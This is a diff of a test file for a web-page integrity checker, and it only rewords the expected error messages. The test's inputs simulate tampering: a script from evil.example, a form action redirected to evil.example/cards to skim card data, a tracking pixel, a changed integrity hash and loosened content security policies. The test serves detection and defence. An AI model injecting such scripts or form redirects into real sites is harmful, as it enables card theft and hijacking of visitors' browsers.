@@ -43,14 +43,14 @@ test('the page as we send it has no fault, and every change of it is one', async
   ]);
   expect(await changed((html) => `${html}<script src="https://evil.example/x.js"></script>`)).toEqual([
     'the script https://evil.example/x.js is not in the inventory',
-    'the page reaches out to another host (script https://evil.example)',
+    'the page connects to another host (script https://evil.example)',
   ]);
   expect(await changed((html) => html.replace(/integrity="sha256-./, 'integrity="sha256-?'))).toHaveLength(1);
   expect(
     await changed((html) =>
       html.replace('<form method="post"', '<form method="post" action="//evil.example/cards"'),
     ),
-  ).toEqual(['the page reaches out to another host (form http://evil.example)']);
+  ).toEqual(['the page connects to another host (form http://evil.example)']);
   expect(await changed((html) => `${html}<img src=https://evil.example/pixel>`)).toHaveLength(1);
   const alteredScript = async (url: string) => {
     const bytes = await page.fetchScript(url);
@@ -79,7 +79,7 @@ test('the page as we send it has no fault, and every change of it is one', async
     await withPolicy(
       (contentSecurityPolicy) => `${contentSecurityPolicy}; script-src-elem https://evil.example`,
     ),
-  ).toEqual(['the content security policy says script-src-elem https://evil.example as well']);
+  ).toEqual(['the content security policy has the unexpected script-src-elem https://evil.example']);
   expect(
     await withPolicy((contentSecurityPolicy) => `script-src 'unsafe-inline'; ${contentSecurityPolicy}`),
   ).toHaveLength(1);
